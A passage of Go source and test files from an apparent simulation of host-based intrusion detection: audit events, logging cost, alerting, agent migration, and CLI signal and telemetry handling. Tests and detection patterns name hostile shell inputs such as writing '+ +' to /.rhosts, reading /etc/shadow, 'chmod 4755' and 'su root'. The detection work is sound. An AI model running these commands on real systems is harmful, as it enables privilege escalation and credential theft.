	ev := Event{Kind: EventProcessExec, User: "x"}
	nom.Observe(ev)
	c2.Observe(ev)
	if c2.ReportBytes <= nom.ReportBytes {
		t.Fatalf("C2 report bytes %d <= nominal %d", c2.ReportBytes, nom.ReportBytes)
	}
	if nom.RecordsLogged != 1 || c2.RecordsLogged != 5 {
		t.Fatalf("records: nominal=%d c2=%d", nom.RecordsLogged, c2.RecordsLogged)
	}
}

func TestActivityGeneratorValidation(t *testing.T) {
	sim := simtime.New(1)
	host := rts.NewHost(sim, "n0")
	agent := NewAgent(sim, host, LogNominal)
	if _, err := NewActivityGenerator(sim, agent, 0); err == nil {
		t.Fatal("zero rate accepted")
	}
}

func TestEventsFromPacket(t *testing.T) {
	src := packet.IPv4(203, 0, 1, 5)
	dst := packet.IPv4(10, 1, 1, 1)
	mk := func(payload string) *packet.Packet {
		return &packet.Packet{Src: src, Dst: dst, Proto: packet.ProtoTCP, Payload: []byte(payload)}
	}
	cases := []struct {
		payload string
		kinds   []EventKind
	}{
		{"Login incorrect\r\n", []EventKind{EventLoginFailed}},
		{"login: root\r\npassword: toor\r\n", []EventKind{EventLogin}},
		{"su root\n", []EventKind{EventPrivilege}},
		{"echo '+ +' > /.rhosts\n", []EventKind{EventPrivilege}},
		{"cat /etc/shadow\n", []EventKind{EventFileAccess}},
		{"GET /index.html HTTP/1.0\r\n", nil},
		{"", nil},
	}
	for _, c := range cases {
		events := EventsFromPacket(mk(c.payload), time.Second)
		if len(events) != len(c.kinds) {
			t.Fatalf("payload %q: %d events, want %d", c.payload, len(events), len(c.kinds))
		}
		for i, k := range c.kinds {
			if events[i].Kind != k {
				t.Fatalf("payload %q: kind %v, want %v", c.payload, events[i].Kind, k)
			}
		}
	}
	// Privilege events attribute the sender as attacker.
	evs := EventsFromPacket(mk("su root\n"), 0)
	if evs[0].Remote != src {
		t.Fatalf("Remote = %v, want %v", evs[0].Remote, src)
	}
}

func BenchmarkAgentObserve(b *testing.B) {
	sim := simtime.New(2)
	host := rts.NewHost(sim, "n0")
	agent := NewAgent(sim, host, LogC2)
	ev := Event{Kind: EventProcessExec, User: "system", Detail: "dispatch"}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		agent.Observe(ev)
	}
}

func TestAgentMigratesUnderAttack(t *testing.T) {
	sim := simtime.New(2)
	home := rts.NewHost(sim, "home")
	refuge := rts.NewHost(sim, "refuge")
	agent := NewAgent(sim, home, LogNominal)
	var techniques []string
	agent.Deliver = func(as []detect.Alert) {
		for _, a := range as {
			techniques = append(techniques, a.Technique)
		}
	}
	if err := agent.EnableMigration(MigrationPolicy{
		AlertThreshold: 2, Window: time.Minute,
		Candidates: []*rts.Host{home, refuge},
	}); err != nil {
		t.Fatal(err)
	}
	// Drive activity so overhead is charged to home first.
	gen, err := NewActivityGenerator(sim, agent, 800)
	if err != nil {
		t.Fatal(err)
	}
	sim.RunUntil(5 * time.Second)
	if home.Overhead() == 0 {
		t.Fatal("no overhead charged before migration")
	}
	// Two privilege alerts within the window trip the policy.
	remote := packet.IPv4(203, 0, 1, 1)
	agent.Observe(Event{Kind: EventPrivilege, User: "x", Detail: "su root", Remote: remote})
	agent.Observe(Event{Kind: EventPrivilege, User: "x", Detail: "chmod 4755", Remote: remote})
	gen.Stop()
	sim.Run()

	migs := agent.Migrations()
	if len(migs) != 1 {
		t.Fatalf("%d migrations, want 1", len(migs))
	}
	if migs[0].From != "home" || migs[0].To != "refuge" {
		t.Fatalf("migration %+v", migs[0])
	}
	if agent.Host() != refuge {
		t.Fatal("agent still on the attacked host")
	}
	// Overhead followed the agent.
	if home.Overhead() != 0 {
		t.Fatalf("home still charged %.3f after migration", home.Overhead())
	}
	if refuge.Overhead() == 0 {
		t.Fatal("refuge not charged after migration")
	}
	// The move was notified through the alert channel.
	found := false
	for _, tech := range techniques {
		if tech == "agent-migration" {
			found = true
		}
	}
	if !found {
		t.Fatalf("migration not notified: %v", techniques)
	}
}

func TestMigrationRequiresCandidates(t *testing.T) {
	sim := simtime.New(2)
	agent := NewAgent(sim, rts.NewHost(sim, "h"), LogNominal)
	if err := agent.EnableMigration(MigrationPolicy{}); err == nil {
		t.Fatal("empty candidate list accepted")
	}
}

func TestMigrationWindowExpiry(t *testing.T) {
	sim := simtime.New(2)
	home := rts.NewHost(sim, "home")
	refuge := rts.NewHost(sim, "refuge")
	agent := NewAgent(sim, home, LogNominal)
	if err := agent.EnableMigration(MigrationPolicy{
		AlertThreshold: 2, Window: time.Second,
		Candidates: []*rts.Host{refuge},
	}); err != nil {
		t.Fatal(err)
	}
	remote := packet.IPv4(203, 0, 1, 1)
	// Alerts spaced beyond the window never accumulate to the threshold.
	agent.Observe(Event{Kind: EventPrivilege, User: "x", Detail: "su root", Remote: remote})
	sim.MustSchedule(10*time.Second, func() {
		agent.Observe(Event{Kind: EventPrivilege, User: "x", Detail: "su root", Remote: remote})
	})
	sim.Run()
	if len(agent.Migrations()) != 0 {
		t.Fatal("spaced alerts triggered migration")
	}
}
