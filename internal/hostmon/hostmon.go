// Package hostmon implements host-based intrusion detection support: audit
// event streams, the CPU cost of event logging, and host agents that
// detect misuse from log data rather than packets. It reproduces the
// resource figures the paper cites (Section 2.1): "Nominal event-logging
// support for host IDSs has been shown to consume three to five percent of
// the monitored host's resources. Logging compliant with Department of
// Defense C2-level (Controlled Access Protection) security requires as
// much as twenty percent of the host's processing power."
package hostmon

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/detect"
	"repro/internal/packet"
	"repro/internal/rts"
	"repro/internal/simtime"
)

// EventKind classifies audit events.
type EventKind int

// Audit event kinds.
const (
	EventLogin EventKind = iota
	EventLoginFailed
	EventProcessExec
	EventFileAccess
	EventPrivilege
	EventNetConn
)

// String names the kind.
func (k EventKind) String() string {
	switch k {
	case EventLogin:
		return "login"
	case EventLoginFailed:
		return "login-failed"
	case EventProcessExec:
		return "exec"
	case EventFileAccess:
		return "file-access"
	case EventPrivilege:
		return "privilege"
	case EventNetConn:
		return "net-conn"
	default:
		return fmt.Sprintf("event(%d)", int(k))
	}
}

// Event is one audit record.
type Event struct {
	At      time.Duration
	Kind    EventKind
	User    string
	Detail  string
	Remote  packet.Addr // source of the triggering connection, if any
	Local   packet.Addr // address of the monitored host, if known
	HostIdx int         // index of the host that logged it
}

// LogLevel selects the audit depth and therefore the logging cost.
type LogLevel int

// Logging levels.
const (
	// LogNominal is ordinary event logging (~3-5% of host CPU).
	LogNominal LogLevel = iota
	// LogC2 is DoD C2 (Controlled Access Protection) compliant auditing
	// (~20% of host CPU): every event plus fine-grained syscall audit.
	LogC2
)

// String names the level.
func (l LogLevel) String() string {
	if l == LogC2 {
		return "c2"
	}
	return "nominal"
}

// eventMultiplier is how many audit records one observable activity
// produces at each level. C2 auditing records the event plus the syscall
// trail around it.
func (l LogLevel) eventMultiplier() float64 {
	if l == LogC2 {
		return 5
	}
	return 1
}

// CostPerRecord is the CPU time to format, protect, and commit one audit
// record. With the standard activity rate of ~800 events/sec this yields
// ~4% overhead at nominal level and ~20% at C2, matching the paper.
const CostPerRecord = 50 * time.Microsecond

// OverheadFraction computes the host CPU fraction consumed by audit
// logging at the given activity rate (observable events per second).
func OverheadFraction(level LogLevel, eventsPerSec float64) float64 {
	f := eventsPerSec * level.eventMultiplier() * CostPerRecord.Seconds()
	if f > 0.999 {
		f = 0.999
	}
	return f
}

// Agent is a host-based IDS sensor: it consumes the host's audit stream,
// raises alerts on misuse patterns, and charges the host for logging.
// Multi-host deployments report to a remote analyzer, spending network
// bandwidth (the paper: "Multi-host IDSs consume network bandwidth by
// transmitting logging information").
type Agent struct {
	sim   *simtime.Sim
	host  *rts.Host
	level LogLevel

	// failWindow tracks failed logins per (user, remote).
	failCounts map[string]*failState
	// FailedLoginThreshold fires the brute-force detection.
	FailedLoginThreshold int
	// sensitiveFiles trigger EventFileAccess alerts.
	sensitiveFiles []string

	// Deliver receives agent alerts (usually an analyzer Submit).
	Deliver func(alerts []detect.Alert)

	// EventsSeen counts processed audit events.
	EventsSeen uint64
	// RecordsLogged counts audit records written (events × multiplier).
	RecordsLogged uint64
	// ReportBytes models bandwidth used reporting to a remote analyzer.
	ReportBytes uint64
	// activityRate is the EWMA of events/sec used for overhead charging.
	activityRate    float64
	lastRateUpdate  time.Duration
	windowEvents    int
	overheadCharged bool

	// Self-preservation (see MigrationPolicy).
	migration          *MigrationPolicy
	migrations         []MigrationEvent
	migrateAlerts      int
	migrateWindowStart time.Duration
}

type failState struct {
	windowStart time.Duration
	count       int
}

// NewAgent attaches an agent to a host at the given logging level.
func NewAgent(sim *simtime.Sim, host *rts.Host, level LogLevel) *Agent {
	return &Agent{
		sim: sim, host: host, level: level,
		failCounts:           make(map[string]*failState),
		FailedLoginThreshold: 5,
		sensitiveFiles: []string{
			"/etc/shadow", "/etc/passwd", "/secure/", ".rhosts",
		},
	}
}

// Level returns the agent's logging level.
func (a *Agent) Level() LogLevel { return a.level }

// Observe processes one audit event: log it (charging the host), update
// detection state, raise alerts.
func (a *Agent) Observe(ev Event) {
	now := a.sim.Now()
	a.EventsSeen++
	a.RecordsLogged += uint64(a.level.eventMultiplier())
	a.ReportBytes += 200 * uint64(a.level.eventMultiplier())
	a.updateOverhead(now)

	var alerts []detect.Alert
	switch ev.Kind {
	case EventLoginFailed:
		key := ev.User + "@" + ev.Remote.String()
		st, ok := a.failCounts[key]
		if !ok || now-st.windowStart > 30*time.Second {
			st = &failState{windowStart: now}
			a.failCounts[key] = st
		}
		st.count++
		if st.count >= a.FailedLoginThreshold {
			st.count = 0
			st.windowStart = now
			alerts = append(alerts, detect.Alert{
				At: now, Technique: "bruteforce", Severity: 0.7,
				Attacker: ev.Remote, Victim: ev.Local,
				Reason: fmt.Sprintf("host audit: %d failed logins for %q", a.FailedLoginThreshold, ev.User),
				Engine: "host-agent",
			})
		}
	case EventPrivilege:
		alerts = append(alerts, detect.Alert{
			At: now, Technique: "masquerade", Severity: 0.8,
			Attacker: ev.Remote, Victim: ev.Local,
			Reason: fmt.Sprintf("host audit: privilege change %q by %q", ev.Detail, ev.User),
			Engine: "host-agent",
		})
	case EventFileAccess:
		for _, f := range a.sensitiveFiles {
			if strings.Contains(ev.Detail, f) {
				alerts = append(alerts, detect.Alert{
					At: now, Technique: "insider-misuse", Severity: 0.75,
					Attacker: ev.Remote, Victim: ev.Local,
					Reason: fmt.Sprintf("host audit: sensitive file access %q by %q", ev.Detail, ev.User),
					Engine: "host-agent",
				})
				break
			}
		}
	}
	if n := len(alerts); n > 0 {
		alerts = append(alerts, a.noteOwnHostAlerts(n, now)...)
	}
	if len(alerts) > 0 && a.Deliver != nil {
		a.Deliver(alerts)
	}
}

// updateOverhead recomputes the host's logging overhead from the observed
// event rate once per second of virtual time.
func (a *Agent) updateOverhead(now time.Duration) {
	a.windowEvents++
	if now-a.lastRateUpdate < time.Second && a.overheadCharged {
		return
	}
	elapsed := now - a.lastRateUpdate
	if elapsed <= 0 {
		elapsed = time.Second
	}
	rate := float64(a.windowEvents) / elapsed.Seconds()
	// EWMA smoothing.
	if a.activityRate == 0 {
		a.activityRate = rate
	} else {
		a.activityRate = 0.7*a.activityRate + 0.3*rate
	}
	a.windowEvents = 0
	a.lastRateUpdate = now
	a.overheadCharged = true
	// Charging the rts host is what couples IDS presence to deadline
	// misses — the Operational Performance Impact metric.
	_ = a.host.SetOverhead("hostmon/"+a.level.String(), OverheadFraction(a.level, a.activityRate))
}

// Overhead returns the fraction currently charged to the host.
func (a *Agent) Overhead() float64 {
	return OverheadFraction(a.level, a.activityRate)
}

// ActivityGenerator produces a host's benign audit stream at a steady
// rate, with occasional logins and file accesses among the process churn.
type ActivityGenerator struct {
	sim    *simtime.Sim
	agent  *Agent
	rate   float64
	ticker *simtime.Ticker
	count  uint64
}

// NewActivityGenerator drives agent with eventsPerSec benign events.
func NewActivityGenerator(sim *simtime.Sim, agent *Agent, eventsPerSec float64) (*ActivityGenerator, error) {
	if eventsPerSec <= 0 {
		return nil, fmt.Errorf("hostmon: rate %v must be positive", eventsPerSec)
	}
	g := &ActivityGenerator{sim: sim, agent: agent, rate: eventsPerSec}
	period := time.Duration(float64(time.Second) / eventsPerSec)
	if period < time.Microsecond {
		period = time.Microsecond
	}
	var err error
	g.ticker, err = sim.NewTicker(period, g.emit)
	if err != nil {
		return nil, err
	}
	return g, nil
}

func (g *ActivityGenerator) emit() {
	g.count++
	ev := Event{At: g.sim.Now()}
	switch g.count % 20 {
	case 0:
		ev.Kind = EventLogin
		ev.User = "operator"
		ev.Detail = "console login"
	case 5:
		ev.Kind = EventFileAccess
		ev.User = "scheduler"
		ev.Detail = "/var/spool/jobs"
	case 10:
		ev.Kind = EventNetConn
		ev.User = "daemon"
		ev.Detail = "peer heartbeat"
	default:
		ev.Kind = EventProcessExec
		ev.User = "system"
		ev.Detail = "periodic task dispatch"
	}
	g.agent.Observe(ev)
}

// Stop halts the generator.
func (g *ActivityGenerator) Stop() { g.ticker.Stop() }

// EventsFromPacket derives host audit events from a packet delivered to
// the monitored host — how interactive network sessions materialize in
// log files. This is the host-based data path: it sees login failures and
// privilege changes even when the network sensor misses them.
func EventsFromPacket(p *packet.Packet, at time.Duration) []Event {
	if len(p.Payload) == 0 {
		return nil
	}
	s := string(p.Payload)
	var out []Event
	if strings.Contains(s, "Login incorrect") {
		out = append(out, Event{At: at, Kind: EventLoginFailed, User: "root", Remote: p.Dst, Local: p.Src, Detail: "remote login failure"})
	}
	if strings.Contains(s, "login: ") && strings.Contains(s, "password: ") {
		out = append(out, Event{At: at, Kind: EventLogin, User: "remote", Remote: p.Src, Local: p.Dst, Detail: "remote login attempt"})
	}
	for _, pat := range []string{"su root", "chmod 4755", "> /.rhosts", "pidof auditd"} {
		if strings.Contains(s, pat) {
			out = append(out, Event{At: at, Kind: EventPrivilege, User: "remote", Remote: p.Src, Local: p.Dst, Detail: pat})
		}
	}
	for _, f := range []string{"/etc/shadow", "/etc/passwd", "/secure/"} {
		if strings.Contains(s, f) {
			out = append(out, Event{At: at, Kind: EventFileAccess, User: "remote", Remote: p.Src, Local: p.Dst, Detail: "access " + f})
			break
		}
	}
	return out
}
