package cli

import (
	"context"
	"flag"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/obs"
)

func parse(t *testing.T, args ...string) *ObsFlags {
	t.Helper()
	fs := flag.NewFlagSet("test", flag.ContinueOnError)
	o := AddObsFlags(fs)
	if err := fs.Parse(args); err != nil {
		t.Fatal(err)
	}
	return o
}

func TestObsFlagsOffByDefault(t *testing.T) {
	o := parse(t)
	if o.Collecting() {
		t.Fatal("collecting with no flags set")
	}
	if o.Registry() != nil {
		t.Fatal("registry created with collection off")
	}
	if err := o.Serve(context.Background()); err != nil {
		t.Fatal(err)
	}
	if o.ServerAddr() != "" {
		t.Fatal("server started with no -listen")
	}
	if err := o.Finish(nil); err != nil {
		t.Fatal(err)
	}
}

func TestObsFlagsImplyCollection(t *testing.T) {
	for _, args := range [][]string{
		{"-telemetry"},
		{"-telemetry-jsonl", "x.jsonl"},
		{"-listen", "127.0.0.1:0"},
		{"-trace-out", "x.json"},
	} {
		o := parse(t, args...)
		if !o.Collecting() {
			t.Errorf("%v: not collecting", args)
		}
		if o.Registry() == nil {
			t.Errorf("%v: nil registry", args)
		}
	}
	// Flight only arms for trace/listen; plain -telemetry skips the ring.
	if parse(t, "-telemetry").Registry().Flight() != nil {
		t.Error("-telemetry alone enabled the flight recorder")
	}
	if parse(t, "-trace-out", "x").Registry().Flight() == nil {
		t.Error("-trace-out did not enable the flight recorder")
	}
	if parse(t, "-listen", "x").Registry().Flight() == nil {
		t.Error("-listen did not enable the flight recorder")
	}
}

func TestObsFlagsServeLifecycle(t *testing.T) {
	o := parse(t, "-listen", "127.0.0.1:0")
	o.Registry().Counter("campaign.completed").Add(2)
	o.SetProgress(func() any { return map[string]int{"completed": 2} })

	ctx, cancel := context.WithCancel(context.Background())
	if err := o.serve(ctx, io.Discard); err != nil {
		t.Fatal(err)
	}
	addr := o.ServerAddr()
	if addr == "" {
		t.Fatal("no bound address")
	}
	resp, err := http.Get("http://" + addr + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), "campaign_completed 2") {
		t.Fatalf("/metrics missing counter:\n%s", body)
	}
	resp, err = http.Get("http://" + addr + "/progress")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(body), `"completed": 2`) {
		t.Fatalf("/progress = %s", body)
	}

	// Context cancellation (the signal path) tears the server down.
	cancel()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if _, err := http.Get("http://" + addr + "/healthz"); err != nil {
			return // down, as required
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatal("server still up after context cancel")
}

func TestObsFlagsFinishWritesFiles(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "t.jsonl")
	trace := filepath.Join(dir, "t.trace.json")
	o := parse(t, "-telemetry-jsonl", jsonl, "-trace-out", trace)
	reg := o.Registry()
	reg.Counter("x.count").Inc()
	reg.Flight().Record(obs.FlightMark, -1, -1, 0, "phase")
	if err := o.Finish(nil); err != nil {
		t.Fatal(err)
	}
	jb, err := os.ReadFile(jsonl)
	if err != nil || !strings.Contains(string(jb), `"x.count"`) {
		t.Fatalf("jsonl = %q, %v", jb, err)
	}
	tb, err := os.ReadFile(trace)
	if err != nil || !strings.Contains(string(tb), `"traceEvents"`) {
		t.Fatalf("trace = %q, %v", tb, err)
	}
}

func TestObsFlagsSnapshotOverride(t *testing.T) {
	o := parse(t, "-telemetry")
	ext := obs.NewRegistry()
	ext.Counter("merged.count").Add(9)
	o.SetSnapshot(func() *obs.Snapshot { return ext.Snapshot() })
	if v, ok := o.Snapshot().Counter("merged.count"); !ok || v != 9 {
		t.Fatalf("snapshot override ignored: %d %v", v, ok)
	}
}
