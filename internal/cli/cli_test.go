package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"testing"
	"time"
)

func TestInterruptedClassifiesContextErrors(t *testing.T) {
	if !Interrupted(context.Canceled) || !Interrupted(context.DeadlineExceeded) {
		t.Fatal("context cancellation and deadline must read as interruptions")
	}
	if !Interrupted(fmt.Errorf("sweep: %w", context.Canceled)) {
		t.Fatal("wrapped cancellation must read as an interruption")
	}
	if Interrupted(errors.New("disk on fire")) || Interrupted(nil) {
		t.Fatal("ordinary errors and nil are not interruptions")
	}
}

func TestContextTimeoutExpires(t *testing.T) {
	ctx, stop := Context(time.Millisecond)
	defer stop()
	select {
	case <-ctx.Done():
	case <-time.After(5 * time.Second):
		t.Fatal("-timeout context never expired")
	}
	if !Interrupted(ctx.Err()) {
		t.Fatalf("expired context error %v must classify as interrupted", ctx.Err())
	}
}

func TestBannerFormat(t *testing.T) {
	var buf bytes.Buffer
	Banner(&buf, 3, 7)
	want := "\nINTERRUPTED after 3/7 experiments — results above are partial\n"
	if buf.String() != want {
		t.Fatalf("banner = %q, want %q", buf.String(), want)
	}
}
