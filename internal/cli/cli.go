// Package cli holds the pieces every command-line tool shares: a
// signal-aware root context with an optional deadline, the test for
// "was this a cancellation, not a failure", and the INTERRUPTED banner
// convention for partial results.
//
// Commands pass the context into the eval entry points; the simulation
// kernel polls it at its interrupt stride, so Ctrl-C (or -timeout
// expiry) drains in-flight experiments at a clean event boundary
// instead of killing the process mid-write.
package cli

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"syscall"
	"time"
)

// Context returns the root context for a command: cancelled on SIGINT
// or SIGTERM, and additionally bounded by timeout when positive. The
// returned stop func releases the signal handler, so a second Ctrl-C
// after the first falls through to the runtime's default (immediate)
// handling — the escape hatch when a drain itself wedges.
func Context(timeout time.Duration) (context.Context, context.CancelFunc) {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	if timeout > 0 {
		tctx, cancel := context.WithTimeout(ctx, timeout)
		return tctx, func() { cancel(); stop() }
	}
	return ctx, stop
}

// Interrupted reports whether err stems from cancellation — Ctrl-C,
// SIGTERM, or a -timeout deadline — rather than a real failure, so
// commands can print partial results instead of an error.
func Interrupted(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}

// Banner prints the standard interruption banner after partial output.
func Banner(w io.Writer, done, total int) {
	fmt.Fprintf(w, "\nINTERRUPTED after %d/%d experiments — results above are partial\n", done, total)
}
