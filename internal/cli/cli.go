// Package cli holds the pieces every command-line tool shares: a
// signal-aware root context with an optional deadline, the test for
// "was this a cancellation, not a failure", and the INTERRUPTED banner
// convention for partial results.
//
// Commands pass the context into the eval entry points; the simulation
// kernel polls it at its interrupt stride, so Ctrl-C (or -timeout
// expiry) drains in-flight experiments at a clean event boundary
// instead of killing the process mid-write.
package cli

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/signal"
	"sync"
	"syscall"
	"time"
)

// Test seams: the hard-exit path must be observable without killing
// the test process.
var (
	exit                  = os.Exit
	hardExitLog io.Writer = os.Stderr
)

// Context returns the root context for a command: cancelled on SIGINT
// or SIGTERM, and additionally bounded by timeout when positive. Both
// signals route through the same graceful-drain path — the simulation
// kernel polls the context at its interrupt stride, so a SIGTERM from
// an init system drains exactly like an operator's Ctrl-C.
//
// A second SIGINT/SIGTERM while the drain is in progress is the escape
// hatch: the process prints one line and hard-exits with the
// conventional 128+signum code, because a drain that itself wedged
// must never make the process unkillable short of SIGKILL.
func Context(timeout time.Duration) (context.Context, context.CancelFunc) {
	var ctx context.Context
	var cancel context.CancelFunc
	if timeout > 0 {
		ctx, cancel = context.WithTimeout(context.Background(), timeout)
	} else {
		ctx, cancel = context.WithCancel(context.Background())
	}

	ch := make(chan os.Signal, 2)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	done := make(chan struct{})
	var once sync.Once
	stop := func() {
		once.Do(func() {
			signal.Stop(ch)
			close(done)
		})
		cancel()
	}

	go func() {
		select {
		case <-ch:
			cancel() // first signal: graceful drain
		case <-done:
			return
		}
		select {
		case sig := <-ch:
			fmt.Fprintf(hardExitLog, "\nsecond %v — hard exit without drain\n", sig)
			exit(hardExitCode(sig))
		case <-done:
		}
	}()
	return ctx, stop
}

// hardExitCode maps a fatal signal to the shell convention 128+signum.
func hardExitCode(sig os.Signal) int {
	if s, ok := sig.(syscall.Signal); ok {
		return 128 + int(s)
	}
	return 1
}

// Interrupted reports whether err stems from cancellation — Ctrl-C,
// SIGTERM, or a -timeout deadline — rather than a real failure, so
// commands can print partial results instead of an error.
func Interrupted(err error) bool {
	return errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded)
}

// Banner prints the standard interruption banner after partial output.
func Banner(w io.Writer, done, total int) {
	fmt.Fprintf(w, "\nINTERRUPTED after %d/%d experiments — results above are partial\n", done, total)
}
