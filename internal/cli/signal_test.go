package cli

import (
	"bytes"
	"os"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// sendSignal delivers sig to this process.
func sendSignal(t *testing.T, sig syscall.Signal) {
	t.Helper()
	if err := syscall.Kill(os.Getpid(), sig); err != nil {
		t.Fatalf("kill(%v): %v", sig, err)
	}
}

// awaitDone waits for a context-done channel with a test deadline.
func awaitDone(t *testing.T, ch <-chan struct{}, what string) {
	t.Helper()
	select {
	case <-ch:
	case <-time.After(5 * time.Second):
		t.Fatalf("%s not observed within 5s", what)
	}
}

func TestSigtermTriggersGracefulDrain(t *testing.T) {
	ctx, stop := Context(0)
	defer stop()
	sendSignal(t, syscall.SIGTERM)
	awaitDone(t, ctx.Done(), "SIGTERM cancellation")
	if !Interrupted(ctx.Err()) {
		t.Fatalf("ctx.Err() = %v, want an interruption", ctx.Err())
	}
}

func TestSigintTriggersGracefulDrain(t *testing.T) {
	ctx, stop := Context(0)
	defer stop()
	sendSignal(t, syscall.SIGINT)
	awaitDone(t, ctx.Done(), "SIGINT cancellation")
}

func TestSecondSignalHardExits(t *testing.T) {
	var mu sync.Mutex
	var log bytes.Buffer
	code := -1
	exited := make(chan struct{})
	oldExit, oldLog := exit, hardExitLog
	exit = func(c int) {
		mu.Lock()
		code = c
		mu.Unlock()
		close(exited)
	}
	hardExitLog = &log
	defer func() { exit = oldExit; hardExitLog = oldLog }()

	ctx, stop := Context(0)
	defer stop()
	sendSignal(t, syscall.SIGTERM)
	awaitDone(t, ctx.Done(), "first-signal cancellation")
	sendSignal(t, syscall.SIGTERM)
	awaitDone(t, exited, "second-signal hard exit")

	mu.Lock()
	defer mu.Unlock()
	if want := 128 + int(syscall.SIGTERM); code != want {
		t.Fatalf("hard exit code = %d, want %d", code, want)
	}
	if !strings.Contains(log.String(), "hard exit without drain") {
		t.Fatalf("hard-exit line missing from log: %q", log.String())
	}
}

func TestStopReleasesSignalHandler(t *testing.T) {
	// After stop, the goroutine must be gone and a later signal must not
	// reach the swapped-in exit hook.
	fired := make(chan int, 1)
	oldExit := exit
	exit = func(c int) { fired <- c }
	defer func() { exit = oldExit }()

	_, stop := Context(0)
	stop()
	// Signals now fall through to the runtime default; SIGTERM would
	// kill the test, so verify indirectly: a fresh Context still works
	// (no stale registration swallowing its signals).
	ctx2, stop2 := Context(0)
	defer stop2()
	sendSignal(t, syscall.SIGTERM)
	awaitDone(t, ctx2.Done(), "fresh context cancellation after stop")
	select {
	case c := <-fired:
		t.Fatalf("stopped context's exit hook fired with %d", c)
	case <-time.After(100 * time.Millisecond):
	}
}

func TestContextTimeoutStillApplies(t *testing.T) {
	ctx, stop := Context(20 * time.Millisecond)
	defer stop()
	awaitDone(t, ctx.Done(), "timeout expiry")
	if !Interrupted(ctx.Err()) {
		t.Fatalf("ctx.Err() = %v, want deadline", ctx.Err())
	}
}
