// Observability flags shared by every sim-running command. One helper
// registers the full surface — -telemetry, -telemetry-jsonl, -listen,
// -trace-out — so the flags mean the same thing everywhere and a new
// command picks up the whole plane in two calls:
//
//	o := cli.AddObsFlags(flag.CommandLine)
//	flag.Parse()
//	defer o.Close()
//	o.Serve(ctx)                   // no-op unless -listen was given
//	... run, instrumenting with o.Registry() ...
//	o.Finish(snapshot)             // exports; no-op when all-off
//
// Everything here observes without perturbing: stdout and result files
// are byte-identical whether the flags are set or not (the determinism
// guard tests pin this), so operators can turn the plane on freely.
package cli

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"repro/internal/obs"
	"repro/internal/obs/httpexport"
)

// ObsFlags holds the parsed observability flag values and the lazily
// constructed registry/server behind them.
type ObsFlags struct {
	// Telemetry mirrors -telemetry: dump the final snapshot as
	// Prometheus text to stderr.
	Telemetry bool
	// JSONLPath mirrors -telemetry-jsonl: write the final snapshot as
	// JSONL to this file.
	JSONLPath string
	// Listen mirrors -listen: serve /metrics, /progress, /healthz,
	// /trace, and /debug/pprof on this address while the run is live.
	Listen string
	// TraceOut mirrors -trace-out: write the flight recorder as Chrome
	// trace_event JSON to this file at exit.
	TraceOut string

	reg      *obs.Registry
	server   *httpexport.Server
	progress func() any
	snapshot func() *obs.Snapshot
}

// AddObsFlags registers the shared observability flags on fs and
// returns the holder the command reads after flag parsing.
func AddObsFlags(fs *flag.FlagSet) *ObsFlags {
	o := &ObsFlags{}
	fs.BoolVar(&o.Telemetry, "telemetry", false,
		"collect telemetry and dump it (Prometheus text) to stderr; stdout is unaffected")
	fs.StringVar(&o.JSONLPath, "telemetry-jsonl", "",
		"write the telemetry snapshot as JSONL to this file (implies collection)")
	fs.StringVar(&o.Listen, "listen", "",
		"serve live /metrics, /progress, /healthz, /trace, /debug/pprof on this address (e.g. 127.0.0.1:9090; implies collection)")
	fs.StringVar(&o.TraceOut, "trace-out", "",
		"write a Chrome trace_event JSON of the flight recorder to this file (view in Perfetto; implies collection)")
	return o
}

// Collecting reports whether any flag asked for telemetry, i.e.
// whether the command should wire a registry at all.
func (o *ObsFlags) Collecting() bool {
	return o.Telemetry || o.JSONLPath != "" || o.Listen != "" || o.TraceOut != ""
}

// Registry returns the shared registry, creating it on first call.
// When tracing or a live endpoint was requested the flight recorder is
// enabled on it. Returns nil — the disabled configuration — when no
// flag asked for collection, so callers can thread the result without
// checks.
func (o *ObsFlags) Registry() *obs.Registry {
	if !o.Collecting() {
		return nil
	}
	if o.reg == nil {
		o.reg = obs.NewRegistry()
		if o.TraceOut != "" || o.Listen != "" {
			o.reg.EnableFlight(0)
		}
	}
	return o.reg
}

// SetSnapshot overrides where /metrics and Finish get their snapshot.
// Commands that aggregate several per-experiment registries (idseval's
// per-product runs) install a merger here; the default snapshots the
// shared Registry().
func (o *ObsFlags) SetSnapshot(fn func() *obs.Snapshot) { o.snapshot = fn }

// SetProgress installs the /progress provider. Must be called before
// Serve for the endpoint to exist.
func (o *ObsFlags) SetProgress(fn func() any) { o.progress = fn }

// Snapshot returns the current snapshot via the installed provider (or
// the shared registry), with the storage layer's fsio.* health
// counters merged in. Nil when collection is off.
func (o *ObsFlags) Snapshot() *obs.Snapshot {
	var snap *obs.Snapshot
	if o.snapshot != nil {
		snap = o.snapshot()
	} else {
		snap = o.Registry().Snapshot()
	}
	if snap != nil {
		snap.Merge(obs.FSIOSnapshot())
	}
	return snap
}

// Serve starts the live HTTP endpoint when -listen was given and ties
// its lifetime to ctx: when the signal-aware context cancels, the
// server drains and closes. The "listening on" line goes to stderr so
// stdout stays byte-identical.
func (o *ObsFlags) Serve(ctx context.Context) error {
	return o.serve(ctx, os.Stderr)
}

func (o *ObsFlags) serve(ctx context.Context, log io.Writer) error {
	if o.Listen == "" {
		return nil
	}
	reg := o.Registry()
